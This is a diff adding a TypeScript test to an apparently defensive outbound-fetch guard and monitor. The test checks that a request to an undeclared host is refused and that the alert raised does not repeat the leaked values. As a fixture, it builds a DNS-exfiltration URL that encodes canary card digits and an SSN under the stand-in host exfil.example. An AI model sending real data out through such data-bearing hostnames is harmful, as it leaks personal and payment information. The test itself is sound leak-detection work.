@@ -6,7 +6,9 @@ import { createMonitor, redisMonitorStore, type Alert } from '../../src/index.js
 import { redisClient, redisUrl } from '../helpers/redis.js';
 
 import { listen, startVendor, type Vendor } from "../helpers/vendor.js";
-import { crm, gateway, post, testClock, type App } from '../monitor/helpers.js';
+import { crm, gateway, post, schema, testClock, type App } from '../monitor/helpers.js';
+import { guardFetch } from '../../src/fetch/index.js';
+import { canaries, findLeaks } from './canaries.js';
 
 const settle = (ms = 30): Promise<void> => new Promise((r) => setTimeout(r, ms));
 
@@ -159,6 +161,35 @@ describe.each(['Express', 'Koa'] as const)('monitor on %s: decoys written the wa
       expect(r.vendor.received).toHaveLength(0);
     } finally {
       await r.close();
+    }
+  });
+});
+
+describe('guardFetch with a monitor: a URL whose host no destination declares', () => {
+  // monitor.ts unknownHost(): the refused host is learnt in the store's `hosts` namespace and raised as a `newDestination`
+  // alert under `destination: host`, as it is. A host built from data (`4xxxxxxxxxxxxxxx.exfil.example`, a label per
+  // value: how data leaves through DNS) is refused, and its value is then in the alert every channel carries.
+  it('the refusal is raised without the data the host is spelled with', async () => {
+    const c = canaries();
+    const destinations = crm('https://crm.example.com');
+    const alerts: Alert[] = [];
+    const clock = testClock();
+    const monitor = createMonitor({ destinations, clock: clock.now, window: 1000, history: 8, warmup: 2, onAlert: (a) => void alerts.push(a), audit: () => undefined });
+    const f = guardFetch({ destinations, schemaFor: () => schema });
+    try {
+      const label = c.card.replace(/\D/g, '');
+      const ssn = c.ssn;
+      const err = await f(`https://${label}.${ssn}.exfil.example/x`, { method: 'GET' }).then(
+        () => undefined,
+        (e: unknown) => e,
+      );
+      expect((err as { code?: string } | undefined)?.code).toBe('ERR_UNKNOWN_DESTINATION');
+      await monitor.flush();
+      const text = JSON.stringify(alerts) + JSON.stringify(monitor.alerts()) + JSON.stringify(await monitor.snapshot()) + String((err as Error).message);
+      expect(findLeaks({ alerts: text }, c)).toEqual([]);
+      expect(text.includes(label), 'card digits in an alert').toBe(false);
+    } finally {
+      await monitor.close();
     }
   });
 });
